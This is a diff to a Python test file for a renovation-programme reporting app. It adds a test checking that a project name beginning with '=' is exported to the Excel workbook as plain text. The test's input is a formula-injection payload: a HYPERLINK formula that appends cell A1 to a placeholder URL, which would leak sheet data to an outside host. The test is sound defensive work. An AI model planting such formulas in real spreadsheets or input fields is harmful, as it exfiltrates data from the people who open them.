@@ -19,6 +19,7 @@ from renovation.models import (
     FundingAllocation,
     MonthlyReport,
     ProjectStatus,
+    RenovationProject,
 )
 from renovation.report_workbook import build_workbook
 from renovation.selectors.report import Month, summary_figures
@@ -80,6 +81,23 @@ def test_projects_sheet_lists_the_years_batch_with_money_and_status_then(program
     assert len(rows) == 3  # the finished 2021 project is not listed
     totals = next(r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] == "合计")
     assert totals[9] == f"=SUM(J4:J{3 + len(rows)})"
+
+
+def test_text_that_looks_like_a_formula_stays_text(programme):
+    """Names and words typed into the system are written as text even when they start with
+    "=": a formula in the joint meeting's workbook could link out or leak the sheet. The
+    workbook's own formulas stay formulas."""
+    project = programme["built"]
+    typed = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
+    RenovationProject.objects.filter(pk=project.pk).update(name=typed)
+    sheet = workbook(JUNE)["项目进度"]
+    cells = [cell for row in sheet.iter_rows(min_row=4) for cell in row]
+    typed_cells = [cell for cell in cells if cell.value == typed]
+    assert len(typed_cells) == 1 and typed_cells[0].data_type == "s"
+    formulas = [cell for cell in cells if cell.data_type == "f"]
+    assert formulas and all(cell.value.startswith(("=SUM(", "=IF(")) for cell in formulas)
+    summary = workbook(JUNE)["总览"]
+    assert any(cell.data_type == "f" for row in summary.iter_rows(min_row=4) for cell in row)
 
 
 def test_a_change_in_july_does_not_alter_junes_report(programme, users):
